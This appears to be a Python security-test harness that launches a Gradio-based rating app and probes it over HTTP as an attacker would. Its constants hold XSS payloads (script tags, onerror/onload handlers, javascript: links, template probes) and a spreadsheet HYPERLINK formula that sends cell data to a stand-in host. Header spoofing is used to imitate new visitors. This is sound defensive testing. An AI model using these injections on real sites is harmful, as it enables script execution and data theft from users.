"""A server under attack in a process of its own, and what an attacker has: HTTP, and everything the page's configuration tells.

The server is the app as a host starts it (``python app/main.py --public``, see `attacked_server`) over a database with a frozen
study, attention checks, one rater, and texts full of markup.
"""

import contextlib
import itertools
import json
import os
import re
import signal
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
from app_server import free_port
from programs import Script

from annotation.criteria import DEFAULT_CRITERIA
from annotation.records import NewOutput, NewStudy
from annotation.store import RatingStore
from app.explore.controls import values_of
from app.explore.form import Form
from app.services import EXPLORE_STUDY

ROOT = Path(__file__).resolve().parents[2]
SECRET = "the organiser's own secret"
PASSWORD = "open sesame, please"
# What must stay on the server: the system's names, the frozen study, what an attention check expects, whoever rates.
SYSTEM, STUDY, HIDDEN = "secret-system", "Hidden study", "hidden text"
# Runs if a browser takes it for markup: a script, a handler, a link, a frame.
MARKUP = (
    '<img src=x onerror="window.hacked=1"><script>window.hacked=2</script><svg onload="window.hacked=3"></svg>'
    '"><iframe srcdoc="<script>parent.hacked=4</script>"></iframe>{{7*7}}${7*7}'
    '[x](javascript:window.hacked=5)<a href="javascript:window.hacked=6">x</a>'
)
FORMULA = '=HYPERLINK("http://192.0.2.1/?x="&A1,"click")'


# Of the ranges kept for examples.
ADDRESSES = itertools.cycle(f"{network}.{host}" for network in ("203.0.113", "198.51.100") for host in range(1, 255))


@dataclass
class Target:
    """The running server."""

    url: str
    data: Path
    rater: str  # token of a rater of the frozen study
    pseudonym: str
    invitation: str
    process: Script
    client: httpx.Client
    config: dict[str, Any] = field(default_factory=dict)

    @property
    def log(self) -> str:
        """What the server printed so far."""
        return (self.data.parent / "log").read_text(encoding="utf-8", errors="replace")

    def store(self) -> RatingStore:
        """The same database, opened from outside to look at it."""
        return RatingStore.open(self.data / "ratings.db")

    def another_visitor(self) -> None:
        """Requests come from another address from now on."""
        self.client.headers["X-Forwarded-For"] = next(ADDRESSES)

    def post(self, path: str, token: str | None = None, **body: Any) -> httpx.Response:
        """A request of the raters' page."""
        headers = {"Authorization": f"Bearer {token}"} if token else {}
        return self.client.post(f"/rate/{path}", content=json.dumps(body), headers=headers)

    def fresh(self) -> str:
        """Token of a new rater who was shown her first item."""
        with self.store() as store:
            rater, token = store.accept_invitation(store.study("hidden-study").id, self.invitation)
            store.next_assignment(rater.id)
        return token

    def events(self) -> list[dict[str, Any]]:
        """Dependencies of the page that run something on the server."""
        return [one for one in self.config["dependencies"] if one.get("backend_fn")]

    def event(self, target: str) -> dict[str, Any]:
        """The dependency of a component's event, by ``elem_id.event``."""
        names = {one["id"]: str(one["props"].get("elem_id") or "") for one in self.config["components"]}
        for one in self.config["dependencies"]:
            if any(f"{names.get(place, '')}.{event}" == target for place, event in one["targets"]):
                return one
        raise KeyError(target)

    def rate_tab(self) -> dict[str, Any]:
        """The dependency of opening the tab Rate."""
        panel = next(one["id"] for one in self.config["components"] if one["props"].get("elem_id") == "rate-open")
        return next(one for one in self.config["dependencies"] if one["outputs"] == [panel])


def fill(path: Path) -> tuple[str, str, str]:
    """The database: token and pseudonym of a rater, and an invitation."""
    with RatingStore.open(path) as store:
        study = store.create_study(
            NewStudy(
                "hidden-study",
                STUDY,
                "t",
                {"en": f"Rate. {MARKUP}"},
                DEFAULT_CRITERIA,
                raters_per_item=40,
                check_every=2,
            )
        )
        words = "moja mbili tatu nne tano sita saba nane"
        store.add_outputs(
            study.id,
            [
                NewOutput(
                    f"i{n}", "sw", f"{HIDDEN} {n} {MARKUP}", "t", f"{SYSTEM}-{s}", "sw", f"{words} {n} {s} {MARKUP}"
                )
                for n in range(4)
                for s in range(2)
            ],
        )
        store.make_checks(study.id)
        store.open_study(study.id)
        _, invitation = store.new_invitation(study.id, "sw")
        rater, token = store.accept_invitation(study.id, invitation)
        open_to_all = store.ensure_study(EXPLORE_STUDY)
        store.add_outputs(
            open_to_all.id,
            [NewOutput("e1", "sw", f"Swali {MARKUP}", "topic", s, "sw", f"Jibu {s} {MARKUP}") for s in ("a", "b")],
        )
        return token, rater.pseudonym, invitation


@contextmanager
def attacked(folder: Path, **environment: str) -> Iterator[Target]:
    """Start the app over a filled database; wait until it answers and its opening example is there."""
    data = folder / "data"
    data.mkdir()
    rater, pseudonym, invitation = fill(data / "ratings.db")
    port = free_port()
    script = ROOT / "tests" / "security" / "attacked_server.py"
    arguments = ["--port", str(port), "--data", str(data), "--public"]
    inherited = {name: value for name, value in os.environ.items() if not name.startswith(("AGL_", "PYTHONPATH"))}
    own = {
        "HF_HUB_OFFLINE": "1",
        "AGL_MODEL": "tiny",
        "AGL_ORGANISER_SECRET": SECRET,
        "AGL_PROXIES": "127.0.0.1",
        "GRADIO_TEMP_DIR": str(folder / "gradio"),
        **environment,
    }
    url = f"http://127.0.0.1:{port}"
    process = Script(script, arguments, folder=folder, environment={**inherited, **own}, log=folder / "log")
    with httpx.Client(base_url=url, timeout=120) as client:
        target = Target(url, data, rater, pseudonym, invitation, process, client)
        try:
            _wait(target)
            if not environment.get("AGL_PASSWORD"):
                target.config = client.get("/config").json()
            yield target
        finally:
            process.send_signal(signal.SIGTERM)
            process.wait(timeout=60)


def _wait(target: Target) -> None:
    began = time.monotonic()
    while True:
        try:
            if target.client.get("/robots.txt").status_code < 500:
                return
        except httpx.HTTPError:
            assert target.process.poll() is None, target.log
            assert time.monotonic() - began < 240, target.log
            time.sleep(0.2)


def join(target: Target, dependency: dict[str, Any], data: list[Any], session: str | None = None) -> str:
    """Put an event into Gradio's queue as the page does; its id, or what was answered instead."""
    body = {
        "data": data, "fn_index": dependency["id"], "session_hash": session or uuid.uuid4().hex[:11], "trigger_id": None,
        "event_data": None,
    }  # fmt: skip
    answer = target.client.post("/gradio_api/queue/join", json=body)
    return str(answer.json().get("event_id", "")) if answer.status_code == 200 else ""


def through_queue(
    target: Target, dependency: dict[str, Any], data: list[Any], session: str | None = None, seconds: float = 60
) -> str:
    """Everything that comes back for an event."""
    session = session or uuid.uuid4().hex[:11]
    if not join(target, dependency, data, session):
        return ""
    return listen(target, session, seconds)


def listen(target: Target, session: str, seconds: float = 60) -> str:
    """The stream of a session until its event is complete."""
    said: list[str] = []
    ends = time.monotonic() + seconds
    query = {"session_hash": session}
    with (
        contextlib.suppress(httpx.TransportError),  # the server closes the stream of a session that it does not know
        target.client.stream("GET", "/gradio_api/queue/data", params=query, timeout=seconds) as lines,
    ):
        for line in lines.iter_lines():
            said.append(line)
            if '"process_completed"' in line or '"close_stream"' in line or time.monotonic() > ends:
                break
    return "\n".join(said)


def by_name(target: Target, dependency: dict[str, Any], data: list[Any]) -> str:
    """The same by name: ``/call`` and the stream of its answer."""
    name = dependency["api_name"] or "false"
    answer = target.client.post(f"/gradio_api/call/{name}", json={"data": data})
    found = (
        answer.json().get("event_id") if answer.headers.get("content-type", "").startswith("application/json") else None
    )
    if answer.status_code != 200 or not found:
        return answer.text
    with target.client.stream("GET", f"/gradio_api/call/{name}/{found}", timeout=60) as lines:
        said = []
        for line in lines.iter_lines():
            said.append(line)
            if line.startswith("data:") and said[-2:-1] and re.match(r"event: (complete|error)", said[-2]):
                break
    return "\n".join(said)


def nothing(dependency: dict[str, Any], first: Any = None) -> list[Any]:
    """Arguments that say nothing but the first."""
    count = len(dependency["inputs"])
    return [first, *[None] * (count - 1)][:count]


def question(target: Target, **changed: object) -> list[object]:
    """The arguments of Ask, as the page sends them: a form's values at the controls of the page; states stay on the server."""
    form = Form("Mchezaji alifunga bao.", "swh_Latn", answer_languages=("swh_Latn",), strategies=("agl",), k=1)
    values = values_of(form) | changed
    names = json.loads((target.data.parent / "controls.json").read_text(encoding="utf-8"))
    assert set(names) == set(values), "a changed value belongs to no control"
    control = {number: name for name, number in names.items()}
    return [values[control[one]] if one in control else None for one in target.event("ask.click")["inputs"]]
